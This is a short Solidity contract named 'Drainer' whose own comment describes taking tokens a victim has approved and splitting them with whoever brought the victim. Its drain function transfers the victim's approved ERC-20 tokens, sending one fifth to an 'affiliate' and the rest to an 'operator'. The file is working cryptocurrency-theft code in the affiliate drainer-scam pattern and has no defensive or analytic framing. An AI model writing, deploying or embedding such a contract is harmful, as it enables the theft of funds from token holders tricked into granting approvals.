// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// Takes what a victim's approval lets it take, and shares it with whoever brought the victim.
contract Drainer {
    using SafeERC20 for IERC20;

    function drain(IERC20 token, address victim, uint256 value, address operator, address affiliate) external {
        uint256 cut = value / 5;
        token.safeTransferFrom(victim, affiliate, cut);
        token.safeTransferFrom(victim, operator, value - cut);
    }
}
